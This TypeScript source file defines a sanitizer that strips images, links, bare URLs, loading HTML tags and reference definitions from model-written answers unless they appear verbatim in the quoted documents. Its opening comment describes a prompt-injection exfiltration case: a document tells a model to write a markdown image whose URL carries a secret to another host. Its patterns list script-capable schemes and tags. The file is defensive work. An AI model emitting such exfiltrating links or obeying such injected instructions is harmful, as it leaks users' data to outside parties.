import { joinLines } from '../text/join-lines.ts';

/**
 * Takes out of a statement what could send a reader, or a reader's browser, somewhere the documents do not: a document
 * can tell a model to write `![x](https://elsewhere/?q=secret)`, and a page that shows the answer would load it.
 *
 * - Images always become their alternative text.
 * - A link becomes its text, and a bare address goes, unless the whole address stands word for word in `quotes`: the
 *   beginning of one (docs.example.co of docs.example.com) is another host.
 * - HTML tags that load or link always go, others unless they stand so in `quotes`; reference definitions that are not
 *   quoted go whole, so that `[text][id]` leads nowhere.
 * - What is left of a tag, an image or a link that is cut in two, and could become whole with the next statement or
 *   with what stood around something taken out, gets a blank where it would begin.
 */
export function stripForeignLinks(statement: string, quotes: readonly string[]): string {
  // An address broken at a line end stands in the statement without its break.
  const sources = [...quotes, joinLines(quotes.join('\n')).text];
  let text = statement;
  // What is taken out may join what stood around it to the next: `<im<a>g>`.
  for (let round = 0; round < MAX_ROUNDS; round += 1) {
    const before = text;
    text = takeOut(text, sources);
    if (text === before) break;
  }
  return breakLeftovers(text, sources);
}

const MAX_ROUNDS = 8;

function takeOut(statement: string, sources: readonly string[]): string {
  const isQuoted = (address: string) => sources.some((source) => holdsAddress(source, address));
  return statement
    .replace(DEFINITION, (line) => (isQuoted(line.trim()) ? line : ''))
    .replace(LOADING_TAG, (tag) => (BARE_TAG.test(tag) && isAnyOf(sources, tag) ? tag : ''))
    .replace(TAG, (tag) => (isAnyOf(sources, tag) || AUTOLINK_START.test(tag) ? tag : ''))
    .replace(IMAGE, '$1')
    .replace(LINK, (whole, text: string, address: string) =>
      address === '' || isQuoted(address) ? whole : text,
    )
    .replace(AUTOLINK, (whole, address: string) => (isQuoted(address) ? whole : ''))
    .replace(ADDRESS, (address) => {
      const bare = bareAddress(address);
      return isQuoted(bare) ? address : address.slice(bare.length);
    });
}

/** Beginnings without their ends, and ends without their beginnings. */
function breakLeftovers(text: string, sources: readonly string[]): string {
  return text
    .replace(/<(?=[a-z/!?])/giu, (sign, at: number) => {
      const end = text.indexOf('>', at);
      const piece = text.slice(at, end === -1 ? text.length : end + 1);
      return isAnyOf(sources, piece) || (AUTOLINK_START.test(piece) && piece.endsWith('>')) ? sign : '< ';
    })
    .replace(/!\[/gu, '! [')
    .replace(/\]\(([^\s)]*)/gu, (whole, address: string) =>
      address === '' || sources.some((source) => holdsAddress(source, address)) ? whole : `] (${address}`,
    )
    .replace(/^([ \t>]*\[[^\]\n]*\]):\s*$/gmu, (line, label: string) =>
      isAnyOf(sources, line) ? line : `${label} :`,
    );
}

function isAnyOf(sources: readonly string[], text: string): boolean {
  return sources.some((source) => source.includes(text));
}

/** Whole: neither side goes on with a character of an address. A Korean particle follows directly, and ends it. */
function holdsAddress(source: string, address: string): boolean {
  const escaped = address.replace(/[.*+?^${}()|[\]\\/]/gu, '\\$&');
  return new RegExp(`(?<![A-Za-z0-9])${escaped}(?![A-Za-z0-9_~%/?#&=+@:-]|\\.[A-Za-z0-9])`, 'u').test(source);
}

/** Without the punctuation of the sentence around it. */
function bareAddress(address: string): string {
  return address.replace(/[.,;:!?'"”’)\]]+$/u, '');
}

/** `[id]: https://… "title"` on a line of its own, in a quotation too; the address may stand on the next line. */
const DEFINITION = /^[ \t>]{0,10}\[[^\]\n]{1,200}\]:[ \t]*(?:\n[ \t>]{0,10})?\S+(?:[ \t]+["'(].*)?[ \t]*$/gmu;
/** The text of a link: over line ends, with brackets one deep. Bounded, so that no text takes quadratic time. */
const TEXT = '((?:[^\\[\\]]|\\[[^\\[\\]]{0,200}\\]){0,500})';
const LOADING_TAG =
  /<\/?(?:a|area|applet|audio|base|body|button|embed|form|frame|frameset|iframe|image|img|input|isindex|link|math|meta|object|portal|script|source|style|svg|track|video)\b[^>]*>?/giu;
/** Named in a text about HTML, without anything to load. Not script and its like, whose content would run. */
const BARE_TAG =
  /^<\/?(?:a|area|audio|base|body|button|form|frame|image|img|input|link|meta|source|track|video)\s*\/?>$/iu;
const AUTOLINK_START = /^<[a-z][a-z0-9+.-]{1,20}:/iu;
const TAG = /<[/!?]?[a-z][^<>]*>/giu;
const IMAGE = new RegExp(`!\\[${TEXT}\\](?:\\([^)\\n]{0,2000}\\)?|\\[[^\\]\\n]{0,200}\\])`, 'gu');
const LINK = new RegExp(`\\[${TEXT}\\]\\(\\s*<?([^\\s)>]{0,2000})>?[^)\\n]{0,500}\\)?`, 'gu');
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,20}:[^>\s]{0,2000})>/giu;
const ADDRESS =
  /(?<![A-Za-z0-9])(?:https?|ftp|wss?|file|data|javascript|vbscript|blob):[^\s<>]+|(?<![\p{L}\p{N}@.])www\.[^\s<>]+/giu;
